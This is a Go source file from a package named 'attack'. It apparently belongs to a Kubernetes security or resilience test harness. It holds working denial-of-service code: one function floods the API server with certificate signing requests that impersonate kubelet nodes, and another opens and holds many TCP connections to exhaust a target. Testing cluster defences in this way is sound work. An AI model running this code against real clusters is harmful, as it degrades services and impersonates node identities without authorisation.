package attack

import (
	"context"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	"sync/atomic"
	"time"

	"golang.org/x/sync/errgroup"
	certificatesv1 "k8s.io/api/certificates/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

// Requests makes so many requests for certificates that a kubelet could have made, as many as it can until the time is over.
// It gives how many there are.
func (a *Attacker) Requests(ctx context.Context, most int64, within time.Duration) (int64, error) {
	ctx, cancel := context.WithTimeout(ctx, within)
	defer cancel()
	_, request, err := newRequest(x509.CertificateRequest{Subject: pkix.Name{Organization: []string{"system:nodes"}, CommonName: "system:node:none"}, DNSNames: []string{"none"}})
	if err != nil {
		return 0, err
	}
	var made, next atomic.Int64
	var group errgroup.Group
	for range 32 {
		group.Go(func() error {
			for ctx.Err() == nil {
				number := next.Add(1)
				if number > most {
					return nil
				}
				_, err := a.API.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{
					ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("flood-%s-%d", run, number)},
					Spec:       certificatesv1.CertificateSigningRequestSpec{Request: request, SignerName: certificatesv1.KubeletServingSignerName, Usages: serving},
				}, metav1.CreateOptions{})
				if err == nil {
					made.Add(1)
				}
			}
			return nil
		})
	}
	err = group.Wait()
	return made.Load(), err
}

// Connections opens so many connections from the worker to an address, and holds them until ctx ends. It gives how many
// were opened.
func (a *Attacker) Connections(ctx context.Context, address string, count int) (opened int64) {
	var got atomic.Int64
	var group errgroup.Group
	group.SetLimit(64)
	for range count {
		group.Go(func() error {
			dial, cancel := context.WithTimeout(ctx, 3*time.Second)
			defer cancel()
			connection, err := a.Worker.Dial(dial, "tcp", address)
			if err != nil {
				return nil //nolint:nilerr // It is counted by those that were opened.
			}
			got.Add(1)
			context.AfterFunc(ctx, func() { _ = connection.Close() })
			return nil
		})
	}
	_ = group.Wait()
	return got.Load()
}
